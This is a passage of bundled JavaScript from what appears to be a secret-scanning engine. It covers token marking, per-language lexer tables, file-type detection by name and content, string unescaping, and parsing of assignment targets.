		const isName = (at) => sieve.passes(text, at, to) && names.has(text.slice(at, to));
		if (!isName(from) && !isName(from + 1)) continue;
		marks.add(index);
		marked = true;
	}
	if (marked) marks.count();
	return marked;
}
/** So many uses of one name are read. */
const mostUses = 40;
/** Marks where the names of texts of a kind are used, where that was passed over; whether there was any. */
function markUses({ tokens, marks, bindings, calls, passedOver }, isWorth) {
	if (passedOver.length === 0) return false;
	const left = /* @__PURE__ */ new Map();
	const sieve = new Sieve();
	const add = ({ path, value }) => {
		const name = path.at(-1) ?? "";
		if (value.kind !== "text" || name.length < 2 || /^\d*$/.test(name) || left.has(name) || !isWorth(value.text)) return;
		left.set(name, mostUses);
		sieve.add(name);
	};
	bindings.forEach(add);
	for (const { args } of calls) args.forEach(add);
	if (left.size === 0) return false;
	const { kind, start, end, text } = tokens;
	let marked = false;
	for (let range = 0; range < passedOver.length; range += 2) for (let index = passedOver[range]; index < passedOver[range + 1]; index += 1) {
		if (kind[index] !== Kind.word || marks.has(index)) continue;
		const [from, to] = [start[index], end[index]];
		for (const at of [from, from + 1]) {
			const uses = sieve.passes(text, at, to) ? left.get(text.slice(at, to)) : void 0;
			if (!uses) continue;
			left.set(text.slice(at, to), uses - 1);
			marks.add(index);
			marked = true;
			break;
		}
	}
	if (marked) marks.count();
	return marked;
}
/**
* Marks the words that name one of the values found, where the run passed them over; whether there was any. Elsewhere
* a mark would change nothing.
* @param others further names of the values
*/
function markNames({ tokens, marks, bindings, calls, passedOver }, others) {
	if (passedOver.length === 0) return false;
	const { kind, start, end, text } = tokens;
	const names = /* @__PURE__ */ new Set();
	const sieve = new Sieve();
	const add = (name) => {
		if (!name) return;
		names.add(name);
		sieve.add(name);
	};
	const addName = ({ path, value }) => {
		if (isPieces(value)) add(path.at(-1));
		if (value.kind !== "text" || value.text.length < longValue || !holdsValue.test(value.text)) return;
		const name = path.at(-1) ?? "";
		add(/^\d+$/.test(name) ? path.findLast((step) => !/^\d+$/.test(step)) : name);
	};
	const addAlias = ({ path, value }) => {
		if (value.kind === "ref" && names.has(value.path.at(-1) ?? "")) add(path.at(-1));
	};
	bindings.forEach(addName);
	others.forEach(addName);
	for (const { args } of calls) args.forEach(addName);
	bindings.forEach(addAlias);
	others.forEach(addAlias);
	for (const { args } of calls) args.forEach(addAlias);
	if (names.size === 0) return false;
	const isName = (from, to) => sieve.passes(text, from, to) && names.has(text.slice(from, to));
	let marked = false;
	for (let range = 0; range < passedOver.length; range += 2) for (let index = passedOver[range]; index < passedOver[range + 1]; index += 1) {
		const here = kind[index];
		if (here !== Kind.word && here !== Kind.string || marks.has(index)) continue;
		const from = here === Kind.string ? tokens.contentStart(index) : start[index];
		const to = here === Kind.string ? tokens.contentEnd(index) : end[index];
		if (!isName(from, to) && !isName(from + 1, to)) continue;
		marks.add(index);
		marked = true;
	}
	if (marked) marks.count();
	return marked;
}
// ../engine/dist/read/interest.js
/** What a document is read for: which texts and which statements of code are worth the parser's time. */
/** A run that a credential, or a half of one, could be. Texts without one are not looked into. */
const run = /[A-Za-z0-9+/]{16}/;
/** As long is a whole credential inside other text. */
const longRun = 60;
/** A picture, a font or a sound holds no document, however long its runs are. */
const media = /^\s*data:(?:image|audio|video|font)\//i;
const wholeRun = /^\s*[A-Za-z0-9+/]{60,}={0,2}\s*$/;
const forCredentials = {
	inText: (text) => run.test(text),
	inValue: (text) => text.length >= 62 && require_worth_reading.hasLongRun(text, longRun) && !wholeRun.test(text) && !media.test(text),
	comments: true,
	marks: markValues,
	more: handedOn,
	follow: markNames
};
// ../engine/dist/read/languages.js
/**
* What the lexer must know of each family of languages: comments, strings, word characters. Data only; one row
* serves every language that writes these things alike. Which file has which language stands at the end.
*/
const double = {
	open: "\"",
	close: "\"",
	escape: "backslash"
};
const single = {
	open: "'",
	close: "'",
	escape: "backslash"
};
const doubleMulti = {
	...double,
	multiline: true
};
const singleMulti = {
	...single,
	multiline: true
};
const tripleDouble = {
	open: "\"\"\"",
	close: "\"\"\"",
	escape: "backslash",
	multiline: true
};
const tripleSingle = {
	open: "'''",
	close: "'''",
	escape: "backslash",
	multiline: true
};
const backtick = {
	open: "`",
	close: "`",
	escape: "backslash",
	multiline: true
};
const rawBacktick = {
	open: "`",
	close: "`",
	escape: "none",
	multiline: true
};
const doubledSingle = {
	open: "'",
	close: "'",
	escape: "doubled"
};
const doubledDouble = {
	open: "\"",
	close: "\"",
	escape: "doubled"
};
const cComments = {
	lineComments: ["//"],
	blockComments: [["/*", "*/"]]
};
const hashComments = {
	lineComments: ["#"],
	blockComments: []
};
const languages = {
	javascript: {
		name: "javascript",
		...cComments,
		strings: [
			double,
			single,
			backtick
		],
		wordExtra: "$@#",
		regex: true
	},
	python: {
		name: "python",
		...hashComments,
		strings: [
			tripleDouble,
			tripleSingle,
			double,
			single
		],
		prefixes: /^(?:[rbfu]|rb|br|fr|rf)$/i,
		wordExtra: "@",
		adjacency: true,
		dictBraces: true
	},
	go: {
		name: "go",
		...cComments,
		strings: [
			double,
			rawBacktick,
			single
		],
		wordExtra: "",
		nameFirst: true
	},
	/** Java, Kotlin, Scala, Groovy, Dart, Swift: C's comments, `"""` blocks. */
	java: {
		name: "java",
		...cComments,
		strings: [
			tripleDouble,
			tripleSingle,
			double,
			single
		],
		prefixes: /^[rsf]$/,
		wordExtra: "$@"
	},
	csharp: {
		name: "csharp",
		...cComments,
		strings: [
			{
				open: "\"\"\"",
				close: "\"\"\"",
				escape: "none",
				multiline: true
			},
			{
				open: "@\"",
				close: "\"",
				escape: "doubled",
				multiline: true
			},
			{
				open: "$@\"",
				close: "\"",
				escape: "doubled",
				multiline: true
			},
			{
				open: "@$\"",
				close: "\"",
				escape: "doubled",
				multiline: true
			},
			{
				open: "$\"",
				close: "\"",
				escape: "backslash"
			},
			double,
			single
		],
		wordExtra: "@"
	},
	rust: {
		name: "rust",
		...cComments,
		strings: [
			{
				open: "r##\"",
				close: "\"##",
				escape: "none",
				multiline: true
			},
			{
				open: "r#\"",
				close: "\"#",
				escape: "none",
				multiline: true
			},
			{
				open: "r\"",
				close: "\"",
				escape: "none",
				multiline: true
			},
			doubleMulti,
			{
				open: "b'",
				close: "'",
				escape: "backslash"
			}
		],
		prefixes: /^(?:b|c|br)$/,
		wordExtra: "!"
	},
	c: {
		name: "c",
		...cComments,
		strings: [
			{
				open: "R\"(",
				close: ")\"",
				escape: "none",
				multiline: true
			},
			{
				open: "@\"",
				close: "\"",
				escape: "backslash"
			},
			double,
			single
		],
		prefixes: /^(?:L|u8|u|U)$/,
		wordExtra: "",
		adjacency: true
	},
	php: {
		name: "php",
		lineComments: ["//", "#"],
		blockComments: [["/*", "*/"]],
		strings: [doubleMulti, singleMulti],
		wordExtra: "$\\",
		heredoc: "php"
	},
	ruby: {
		name: "ruby",
		lineComments: ["#"],
		blockComments: [["=begin", "=end"]],
		strings: [
			{
				open: "%q(",
				close: ")",
				escape: "none",
				multiline: true
			},
			{
				open: "%Q(",
				close: ")",
				escape: "backslash",
				multiline: true
			},
			{
				open: "%(",
				close: ")",
				escape: "backslash",
				multiline: true
			},
			doubleMulti,
			singleMulti
		],
		wordExtra: "@$?!",
		adjacency: true,
		heredoc: "ruby"
	},
	/** Shell, Dockerfile, Makefile, crontab, systemd: words without quotes are values. */
	shell: {
		name: "shell",
		...hashComments,
		strings: [
			{
				open: "$'",
				close: "'",
				escape: "backslash"
			},
			doubleMulti,
			{
				open: "'",
				close: "'",
				escape: "none",
				multiline: true
			}
		],
		wordExtra: "$-@",
		heredoc: "shell",
		bareWords: true
	},
	powershell: {
		name: "powershell",
		lineComments: ["#"],
		blockComments: [["<#", "#>"]],
		strings: [
			{
				open: "@\"",
				close: "\"@",
				escape: "none",
				multiline: true
			},
			{
				open: "@'",
				close: "'@",
				escape: "none",
				multiline: true
			},
			{
				open: "\"",
				close: "\"",
				escape: "backtick",
				multiline: true
			},
			doubledSingle
		],
		wordExtra: "$-@",
		bareWords: true
	},
	batch: {
		name: "batch",
		lineComments: [
			"rem ",
			"REM ",
			"::"
		],
		blockComments: [],
		strings: [doubledDouble],
		wordExtra: "%-@",
		bareWords: true
	},
	/** R, Julia, Elixir, Perl, Nim, Tcl, GraphQL, HCL: `#` comments, both quotes. */
	hash: {
		name: "hash",
		lineComments: ["#"],
		blockComments: [["/*", "*/"], ["#=", "=#"]],
		strings: [
			tripleDouble,
			tripleSingle,
			doubleMulti,
			singleMulti
		],
		prefixes: /^[rbq]$/,
		wordExtra: "$@%!?",
		heredoc: "shell"
	},
	sql: {
		name: "sql",
		lineComments: ["--", "#"],
		blockComments: [["/*", "*/"]],
		strings: [
			{
				open: "'",
				close: "'",
				escape: "doubled",
				multiline: true
			},
			doubledDouble,
			rawBacktick
		],
		prefixes: /^[NEBX]$/i,
		wordExtra: "@$"
	},
	/** Lua, Haskell, Elm, Ada, VHDL. */
	dashes: {
		name: "dashes",
		lineComments: ["--"],
		blockComments: [["--[[", "]]"], ["{-", "-}"]],
		strings: [
			{
				open: "[[",
				close: "]]",
				escape: "none",
				multiline: true
			},
			double,
			single
		],
		wordExtra: "'"
	},
	/** Lisp, Clojure, Scheme, AutoHotkey, assembler. */
	semicolon: {
		name: "semicolon",
		lineComments: [";"],
		blockComments: [],
		strings: [doubleMulti],
		wordExtra: "-!?*"
	},
	/** Visual Basic, Pascal, MATLAB: quotes are doubled. */
	basic: {
		name: "basic",
		lineComments: [
			"'",
			"//",
			"%"
		],
		blockComments: [["{", "}"], ["(*", "*)"]],
		strings: [doubledDouble],
		wordExtra: ""
	},
	pascal: {
		name: "pascal",
		lineComments: ["//"],
		blockComments: [["(*", "*)"]],
		strings: [doubledSingle, doubledDouble],
		wordExtra: ""
	},
	/** Anything else that may be code or notes: no comments, all common quotes. */
	text: {
		name: "text",
		lineComments: [],
		blockComments: [],
		strings: [
			double,
			single,
			{
				...rawBacktick,
				multiline: false
			}
		],
		wordExtra: "$-",
		bareWords: true
	}
};
/** Whether it is a language, and no format with a reader of its own. */
function isLanguage(name) {
	return name in languages;
}
const byExtension = Object.fromEntries([
	["javascript", "js jsx mjs cjs ts tsx mts cts es6 coffee gs wxs qml sol"],
	["python", "py pyw pyi pyx pxd py3 wsgi gyp sage bzl star pine"],
	["go", "go"],
	["java", "java kt kts scala sc sbt groovy gradle dart swift jsp aj proto cls apex mq4 mq5 mqh zig v odin"],
	["csharp", "cs csx cake fs fsx fsi"],
	["rust", "rs"],
	["c", "c h cc cpp cxx hpp hh hxx ino m mm cu d"],
	["php", "php php3 php4 php5 phtml inc"],
	["ruby", "rb rake gemspec ru cr jbuilder podspec"],
	["shell", "sh bash zsh ksh fish command profile bashrc zshrc bash_history zsh_history mk mak service dockerfile http rest curl history"],
	["powershell", "ps1 psm1 psd1"],
	["batch", "bat cmd"],
	["hash", "r jl ex exs pl pm t tcl nim nims graphql tf tfvars hcl nix awk rmd qmd cfn"],
	["sql", "sql psql ddl dml dump"],
	["dashes", "lua hs elm adb ads"],
	["semicolon", "clj cljs cljc edn lisp el scm rkt ahk asm"],
	["basic", "vb vbs bas frm mat"],
	["pascal", "pas pp dpr lpr"],
	["json", "json jsonc json5 jsonl ndjson har webmanifest geojson avsc tfstate code-workspace postman_collection postman_environment"],
	["yaml", "yaml yml sls"],
	["toml", "toml"],
	["ini", "ini cfg conf cnf config editorconfig gitconfig desktop inf credentials reg"],
	["env", "env envrc"],
	["properties", "properties"],
	["xml", "xml plist csproj fsproj vbproj xaml resx iml wsdl xsd xsl svg storyboard pom nuspec props targets"],
	["markup", "html htm xhtml vue svelte astro hbs ejs njk erb cshtml twig mustache"],
	["csv", "csv tsv"],
	["markdown", "md mdx markdown rst adoc org txt text log out wiki textile"],
	["notebook", "ipynb"]
].flatMap(([language, extensions]) => extensions.split(" ").map((extension) => [extension, language])));
const byName = [
	[/^(?!.*\.(?:[cm]?[jt]sx?|py|go|rb|rs|php|java|kt|cs|swift|json|ya?ml|toml)$)(?:\.?env(?:\.|$)|.*\.env(?:\.|$)|\.envrc$|\.flaskenv$|.*\.env[-_]\w+$)/i, "env"],
	[/^(?:dockerfile|containerfile)(?:\.|$)|^(?:gnu)?makefile$|^procfile$|^\.(?:bash|zsh|sh)\w*$|^\.?profile$|^crontab$|^jenkinsfile$/i, "shell"],
	[/^(?:gemfile|rakefile|podfile|vagrantfile|brewfile|guardfile)$/i, "ruby"],
	[/^(?:pipfile|cargo\.lock|poetry\.lock)$/i, "toml"],
	[/^(?:\.babelrc|\.eslintrc|\.prettierrc|composer\.lock|\.mcp)$/i, "json"],
	[/^(?:\.npmrc|\.pypirc|\.netrc|\.gitconfig|credentials)$/i, "ini"]
];
/** What a file's name tells of its language. `sure`: whatever its text says. Undefined when it tells nothing. */
function languageByName(path) {
	const name = path.slice(path.lastIndexOf("/") + 1).replace(/(?<=.)(?:\.(?:example|sample|dist|template|tmpl|tpl|bak|old|orig|save|local|copy|swp|j2)|~)+$/i, "");
	for (const [pattern, language] of byName) if (pattern.test(name)) return {
		language,
		sure: true
	};
	const extension = name.slice(name.lastIndexOf(".") + 1).toLowerCase();
	return Object.hasOwn(byExtension, extension) ? {
		language: byExtension[extension],
		sure: false
	} : void 0;
}
/** The language or format of a file by its name, else by what its text looks like. */
function languageOf(path, text) {
	const named = languageByName(path);
	if (named?.sure) return named.language;
	const start = text.slice(0, 200);
	if (/^\s*<\?xml\s/.test(start)) return "xml";
	if (named?.language === "ini" && /^\s*<(?:!--|[A-Za-z][\w:.-]*(?:\s[^<>]*)?>)/.test(start)) return "xml";
	return named?.language ?? sniff(text);
}
/** What a text without a telling name looks like. */
function sniff(text) {
	const start = text.slice(0, 1e3).trimStart();
	const shebang = /^#!.*?(python|node|deno|bun|ruby|php|perl|sh)\b/.exec(start)?.[1];
	if (shebang) {
		if (shebang === "python" || shebang === "ruby" || shebang === "php") return shebang;
		return shebang === "perl" ? "hash" : shebang === "sh" ? "shell" : "javascript";
	}
	if (/^[{[]\s*(?:["{[\]}]|$)/.test(start)) return "json";
	if (/^<\?xml|^<[A-Za-z]+[^>]*>\s*</.test(start)) return start.startsWith("<?php") ? "php" : "xml";
	if (isAssignments(start)) return "env";
	return guess(start);
}
/** Nothing but `NAME=value`, comments and empty lines, and at least one of the first. */
function isAssignments(start) {
	const lines = start.split("\n").map((line) => line.trim());
	const assignment = /^(?:export\s+)?[A-Za-z_][\w.]*=(?!=)/;
	return lines.every((line) => line === "" || line.startsWith("#") || assignment.test(line)) && lines.some((line) => assignment.test(line));
}
const tells$1 = [
	[/^\s*<\?php|^\s*\$\w+\s*=/m, "php"],
	[/^\s*package \w+\s*$|^\s*func \w+\(|:=\s/m, "go"],
	[/^\s*(?:from [\w.]+ import |import \w+(?:\.\w+)*\s*$|def \w+\(.*\).*:\s*$|elif |print\()/m, "python"],
	[/^\s*(?:use \w+(?:::\w+)+|(?:pub )?fn \w+|let mut )/m, "rust"],
	[/^\s*(?:using [\w.]+;|namespace [\w.]+)/m, "csharp"],
	[/^\s*(?:import [\w.]+(?:\.\*)?;|public (?:final )?class )/m, "java"],
	[/^\s*(?:const|let|var|import|export|async) |require\(|=>/m, "javascript"],
	[/^\s*(?:curl|export|docker|kubectl|sudo|echo) /m, "shell"]
];
function guess(start) {
	return tells$1.find(([pattern]) => pattern.test(start))?.[1] ?? "text";
}
/** The language of a Markdown fence, by its info string; `''` → guessed from the code. */
function languageOfFence(info, code) {
	const word = /^[\w+#.-]+/.exec(info.trim().replace(/^\{\.?/, ""))?.[0].toLowerCase() ?? "";
	const aliases = {
		javascript: "javascript",
		typescript: "javascript",
		node: "javascript",
		python: "python",
		python3: "python",
		golang: "go",
		kotlin: "java",
		csharp: "csharp",
		"c#": "csharp",
		"c++": "c",
		rust: "rust",
		ruby: "ruby",
		console: "shell",
		terminal: "shell",
		"shell-session": "shell",
		shell: "shell",
		docker: "shell",
		makefile: "shell",
		powershell: "powershell",
		bat: "batch",
		dotenv: "env",
		elixir: "hash",
		perl: "hash",
		julia: "hash",
		terraform: "hash",
		haskell: "dashes",
		clojure: "semicolon",
		html: "markup"
	};
	if (Object.hasOwn(aliases, word)) return aliases[word];
	if (Object.hasOwn(byExtension, word)) return byExtension[word];
	return word ? "text" : sniff(code);
}
// ../engine/dist/read/markup.js
const element = /<[a-z][\w-]*\s[^<>]{60,4000}>/gi;
const attribute = /(?<![\w:.@-])([\w:.@-]{1,100})\s{0,20}=\s{0,20}(?:"([^"]*)"|'([^']*)')/g;
/** A value that the attribute's own name does not name. */
const unnamed = /^(?:value|content|data-value|placeholder|title)$/i;
const naming$1 = [
	"name",
	"id",
	"data-name",
	"data-key",
	"property",
	"for",
	"formcontrolname",
	"ng-model",
	"v-model"
];
/** A binding for each attribute that is long enough to hold a key, by the name that the element gives it. */
function attributeBindings$1(text) {
	const found = [];
	for (const { index: start, 0: whole } of text.matchAll(element)) {
		const attributes = [...whole.matchAll(attribute)];
		const name = naming$1.map((wanted) => attributes.find(([, own]) => own?.toLowerCase() === wanted)).find((one) => one !== void 0);
		for (const { index, 0: all, 1: own = "", 2: double, 3: single } of attributes) {
			const value = double ?? single ?? "";
			if (value.length < 60) continue;
			const end = start + index + all.length - 1;
			const span = {
				start: end - value.length,
				end
			};
			const path = unnamed.test(own) && name ? [name[2] ?? name[3] ?? own] : [own.replace(/^data-/, "")];
			found.push({
				path,
				via: "entry",
				value: require_worth_reading.verbatim(text, span.start, span.end),
				span,
				container: Math.max(1, start)
			});
		}
	}
	return found;
}
// ../engine/dist/read/code/run.js
const maxPath = 8;
const maxCalls$1 = 5e4;
/** From this many on a list is data, of which only texts that could hold a key are kept. */
const maxKept = 5e4;
var Run = class {
	tokens;
	language;
	marks;
	bindings = [];
	calls = [];
	/** The ranges of tokens that were not read, where each begins and ends in turn. */
	passedOver = [];
	constructor(tokens, marks) {
		this.tokens = tokens;
		this.language = tokens.language;
		this.marks = marks;
	}
	bind(context, name, via, { value, span }) {
		const { path, container, sink } = context;
		if (isKept(sink, value)) sink.push({
			path: pathTo(path, name),
			via,
			value,
			span,
			container
		});
	}
	/** @param from first token of the callee. `close`: the bracket that ends the arguments */
	record(callee, from, close, args) {
		if (this.calls.length < maxCalls$1) this.calls.push({
			callee,
			args: args.slice(),
			span: this.tokens.span(from, close + 1)
		});
	}
};
/** Whether there is room for the value in a list of what was found. */
function isKept(list, value) {
	return list.length < maxKept || value.kind === "text" && value.text.length >= 60;
}
/** The path of a name in a container; of long ones the last steps. */
function pathTo(container, name) {
	const path = container.length === 0 ? name : container.concat(name);
	return path.length > maxPath ? path.slice(-8) : path;
}
// ../engine/dist/read/code/structure.js
/** How tokens group: where an item ends, what goes on over a line end, where type arguments end, which words are names. */
/** Names longer than this are cut. */
const maxName$1 = 200;
/** Type arguments take fewer tokens. */
const maxTypeArguments = 40;
/** The comma, semicolon or line end behind the item that begins at `from`; `to` without one. */
function endOfItem(tokens, from, to, newlines) {
	const { kind, match } = tokens;
	for (let at = from; at < to; at += 1) {
		const here = kind[at];
		if (here === Kind.comma || here === Kind.semicolon) return at;
		if (match[at] > at) at = match[at];
		else if (here === Kind.newline) {
			if (newlines && !goesOn(tokens, at, from, to)) return at;
			at = tokens.skipNewlines(at, to) - 1;
		} else if (here === Kind.less && at > from && kind[at - 1] === Kind.word) {
			const after = endOfTypeArguments(tokens, at, to);
			if (after > 0) at = after - 1;
		}
	}
	return to;
}
/** Whether the item that begins at `from` goes on behind the line end at `index`. */
function goesOn(tokens, index, from, to) {
	const { kind, language } = tokens;
	let before = index - 1;
	while (before >= from && kind[before] === Kind.newline) before -= 1;
	const last = before >= from ? kind[before] : Kind.newline;
	if (continuesAfter[last] && !(last === Kind.colon && language.dictBraces)) return true;
	const after = tokens.skipNewlines(index, to);
	if (after >= to) return false;
	const next = kind[after];
	if (last === Kind.string && next === Kind.string) return language.name === "c";
	if (next === Kind.openBrace) return !language.dictBraces && (last === Kind.word || last === Kind.closeParen || last === Kind.greater);
	if (next === Kind.colon && language.name === "ruby") return false;
	return continuesBefore[next] === 1;
}
/** The token behind the `>` that closes type arguments opened at `at`; -1 where a `<` only compares. */
function endOfTypeArguments(tokens, at, to) {
	const { kind } = tokens;
	const limit = Math.min(to, at + maxTypeArguments);
	let depth = 0;
	for (let index = at; index < limit; index += 1) {
		const here = kind[index];
		if (here === Kind.less) depth += 1;
		else if (here === Kind.greater) {
			depth -= 1;
			if (depth === 0) return afterTypeArguments[kind[index + 1]] ? index + 1 : -1;
		} else if (!insideTypeArguments[here]) return -1;
	}
	return -1;
}
/** Whether there is a literal that could be a value. */
function hasText(tokens, from, to) {
	const { kind } = tokens;
	for (let at = from; at < to; at += 1) if (kind[at] === Kind.string || isLongWord(tokens, at)) return true;
	return false;
}
/** Whether the token is a word that is no name, for it is long enough to be a credential. */
function isLongWord(tokens, index) {
	return tokens.kind[index] === Kind.word && holdsLongRun(tokens.text, tokens.start[index], tokens.end[index]);
}
/** The word as a name: without the sigils of shell, PHP, Perl and Ruby. */
function nameAt$1(tokens, index) {
	const { text } = tokens;
	const end = tokens.end[index];
	let start = tokens.start[index];
	while (start < end && isSigil(text.charCodeAt(start))) start += 1;
	return text.slice(start, Math.min(end, start + maxName$1));
}
function isSigil(code) {
	return code === 36 || code === 64 || code === 35;
}
/** The path if [from, to) is nothing but a name, perhaps after `const`, `let` or a type. */
function purePath(tokens, from, to) {
	const { kind } = tokens;
	let begin = -1;
	for (let at = from; at < to; at += 1) if (kind[at] === Kind.word) {
		if (isLongWord(tokens, at)) return void 0;
		if (begin < 0 || !accessing[kind[at - 1]]) begin = at;
	} else if (kind[at] !== Kind.newline && !accessing[kind[at]]) return void 0;
	if (begin < 0) return void 0;
	const path = [];
	for (let at = begin; at < to; at += 1) if (kind[at] === Kind.word) path.push(nameAt$1(tokens, at));
	return path;
}
// ../engine/dist/read/code/strings.js
/** A string token's text as the program sees it. */
function stringValue(tokens, index) {
	const { escape, close } = tokens.form(index);
	const start = tokens.contentStart(index);
	const end = tokens.contentEnd(index);
	return escape === "none" ? require_worth_reading.verbatim(tokens.text, start, end) : unescape(tokens.text, start, end, escape, close);
}
const simpleEscapes = {
	n: "\n",
	t: "	",
	r: "\r",
	b: "\b",
	f: "\f",
	v: "\v",
	0: "\0",
	a: "\x07",
	e: "\x1B"
};
const codeEscape = /\\(?:u\{([0-9a-fA-F]{1,6})\}|u([0-9a-fA-F]{4})|x\{?([0-9a-fA-F]{2})\}?|U([0-9a-fA-F]{8}))/y;
/** Resolves the escapes of [start, end). Unknown escapes stand for the escaped character. */
function unescape(text, start, end, escape, close) {
	const marker = escape === "backslash" ? "\\" : escape === "backtick" ? "`" : escape === "doubled" ? close : "";
	const builder = new require_worth_reading.TextBuilder(text);
	const inner = text.slice(start, end);
	let at = start;
	while (at < end) {
		const found = marker === "" ? -1 : inner.indexOf(marker, at - start);
		if (found < 0) break;
		const next = start + found;
		const [length, stands] = escape === "backslash" ? readEscape(text, next, end) : [2, escape === "doubled" ? close : text.charAt(next + 1)];
		builder.copy(at, next);
		at = Math.min(end, next + length);
		builder.replace(stands, next, at);
	}
	return builder.copy(at, end).value();
}
/** Length in the source and meaning of the backslash escape at `at`. */
function readEscape(text, at, end) {
	const char = text.charAt(at + 1);
	if (char === "u" || char === "x" || char === "U") {
		codeEscape.lastIndex = at;
		const found = codeEscape.exec(text);
		const code = found ? Number.parseInt(found[1] ?? found[2] ?? found[3] ?? found[4] ?? "0", 16) : NaN;
		if (found && at + found[0].length <= end && code <= 1114111) return [found[0].length, String.fromCodePoint(code)];
	}
	if (char === "\n") return [2 + indentAfter(text, at + 2), ""];
	if (char === "\r" && text.charAt(at + 2) === "\n") return [3 + indentAfter(text, at + 3), ""];
	return [2, simpleEscapes[char] ?? char];
}
/** A continued line's indentation is dropped in Rust and Swift and harmless to drop elsewhere. */
function indentAfter(text, at) {
	let length = 0;
	while (text.charAt(at + length) === " " || text.charAt(at + length) === "	") length += 1;
	return length;
}
// ../engine/dist/read/code/targets.js
/** The names before assigning operators: `exchange.apiKey =`, `config["binance"]["key"] =`, `"api-key":`, `[k, s] =`. */
/** What no program has, and only takes memory: files of megabytes come here too. */
const maxAssignments = 2e4;
const maxName = 200;
const none$3 = [];
/** The assignments of one item, in order: `a = b = "…"` has two. */
function assignmentsOf(tokens, from, to) {
	const { kind, match, language } = tokens;
	let found = none$3;
	let ternaries = 0;
	let lower = from;
	for (let at = from; at < to && found.length < maxAssignments; at += 1) {
		if (match[at] > at) {
			at = match[at];
			continue;
		}
		const operator = kind[at];
		if (operator === Kind.question && at + 1 < to && beginsTernary(kind[at + 1]) && language.name !== "rust") ternaries += 1;
		if (!assigning[operator]) continue;
		if (operator === Kind.colon && ternaries > 0) {
			ternaries -= 1;
			continue;
		}
		if (operator === Kind.thinArrow && kind[at - 1] !== Kind.string) continue;
		if (operator === Kind.colon && tokens.text.startsWith("//", tokens.end[at]) && kind[at - 1] === Kind.word) continue;
		if (operator === Kind.colon && match[at - 1] >= from && tokens.skipNewlines(at + 1, to) === to) continue;
		const assignment = assignmentAt(tokens, at, lower);
		if (!assignment || operator === Kind.fatArrow && assignment.group >= 0) continue;
		if (found.length === 0) found = [assignment];
		else found.push(assignment);
		lower = at + 1;
	}
	return found;
}
/** By what follows a question mark: `key?: string` and `a?.b` are none. */
function beginsTernary(next) {
	return next !== Kind.colon && next !== Kind.dot && next !== Kind.equals;
}
/** The operator `at` with its target, which ends right before it and begins at `lower` or later. */
function assignmentAt(tokens, at, lower) {
	const { kind, match, language } = tokens;
	const operator = kind[at];
	let path = [];
	let start = at;
	let index = at - 1;
	while (index >= lower && (kind[index] === Kind.newline || beforeAssigning[kind[index]])) index -= 1;
	while (index >= lower && path.length < 64) {
		const here = kind[index];
		if (here === Kind.string) {
			path = [keyText(tokens, index), ...path];
			start = index;
			break;
		}
		if (here === Kind.word) {
			start = language.name === "text" ? startOfLabel(tokens, index, lower) : index;
			path = [wordsOf$2(tokens, start, index), ...path];
			if (index - 2 < lower || !accessing[kind[index - 1]]) break;
			index -= 2;
			continue;
		}
		const open = match[index];
		if (open < lower || open > index) break;
		const before = open - 1;
		if (here === Kind.closeBracket) {
			const key = soleKey(tokens, open + 1, index);
			if (key !== void 0) path = [key, ...path];
			start = open;
			const indexed = kind[before] === Kind.word && !tokens.means(before, Word.variable) || kind[before] === Kind.closeBracket;
			if (before >= lower && indexed) {
				index = before;
				continue;
			}
			if (path.length === 0) return {
				at,
				operator,
				start: open,
				group: open
			};
		} else if (path.length > 0) start = open;
		else if (here === Kind.closeParen && before >= lower && kind[before] === Kind.word && !tokens.means(before, Word.variable)) {
			if (open + 1 !== index) return void 0;
			path = [nameAt$1(tokens, before)];
			start = before;
		} else return {
			at,
			operator,
			start: open,
			group: open
		};
		break;
	}
	if (path.length === 0) return void 0;
	if (path.length === 1 && start - 2 >= lower && kind[start - 2] === Kind.word && /^as$/i.test(tokens.slice(start - 1))) return {
		at,
		operator,
		start: start - 2,
		name: [nameAt$1(tokens, start - 2)],
		group: -1
	};
	const first = start - 1;
	if (language.nameFirst && path.length === 1 && first >= lower && kind[first] === Kind.word && !tokens.means(first, Word.beforeName)) return {
		at,
		operator,
		start: first,
		name: [nameAt$1(tokens, first)],
		group: -1
	};
	return {
		at,
		operator,
		start,
		name: path,
		group: -1
	};
}
/** In prose a label is several words: `My API key: …`. */
function startOfLabel(tokens, last, lower) {
	let start = last;
	while (start - 1 >= lower && tokens.kind[start - 1] === Kind.word && !tokens.means(start - 1, Word.prefix) && last - start < 5) start -= 1;
	return start;
}
function wordsOf$2(tokens, first, last) {
	let words = nameAt$1(tokens, first);
	for (let index = first + 1; index <= last; index += 1) words += ` ${nameAt$1(tokens, index)}`;
	return words;
}
/** The one key inside brackets, `["key"]` or `[:key]` or `[KEY]`; `numbers`: also an index. */
function soleKey(tokens, from, to, numbers = false) {
	const first = tokens.skipNewlines(from, to);
	const at = tokens.kind[first] === Kind.colon ? first + 1 : first;
	if (at + 1 !== to) return void 0;
	if (tokens.kind[at] === Kind.string) return keyText(tokens, at);
	if (tokens.kind[at] !== Kind.word || !numbers && /^\d+$/.test(tokens.slice(at))) return void 0;
	return nameAt$1(tokens, at);
}
function keyText(tokens, index) {
	return stringValue(tokens, index).text.slice(0, maxName);
}
// ../engine/dist/read/code/named.js
/** The keyword that declares a block's name stands at most so many tokens before the brace's name. */
const maxDeclaration = 15;
/** Reads the name at token `from` and what hangs on it. */
function readNamed(run, from, to, context, position) {
	const { tokens, language } = run;
	const { kind } = tokens;
	let path = [nameAt$1(tokens, from)];
	let result;
	let at = from + 1;
	while (at < to) {
		const here = kind[at];
		if (accessing[here] && at + 1 < to && kind[at + 1] === Kind.word && !isConcatenation(here, language)) {
			path = withStep(path, nameAt$1(tokens, at + 1));
			at += 2;
			continue;
		}
		if (here === Kind.newline && position.constructing && kind[at + 1] === Kind.openBrace) {
			at += 1;
			continue;
		}
		if (here === Kind.less && !result) {
			const after = endOfTypeArguments(tokens, at, to);
			if (after < 0) break;
			at = after;
			continue;
		}
		const close = tokens.close(at);
		if (close < 0 || close > to || context.depth > 64) break;
		if (here === Kind.openParen) {
			if (language.nameFirst && path.length === 1 && meaningOf(path[0]) & Word.group) {
				readStatements(run, at + 1, close, inside(run, at, context, "block", true));
				return named$4(tokens, from, close + 1, void 0);
			}
			const value = readCall(run, path, from, at, close, context);
			if (result?.kind !== "text" || value.kind === "text") result = value;
		} else if (here === Kind.openBracket && language.name === "rust" && path.length === 1 && path[0].endsWith("!")) return named$4(tokens, from, at, void 0);
		else if (here === Kind.openBracket && !result) {
			const key = soleKey(tokens, at + 1, close, true);
			if (key !== void 0) path = withStep(path, key);
		} else if (here === Kind.openBrace) {
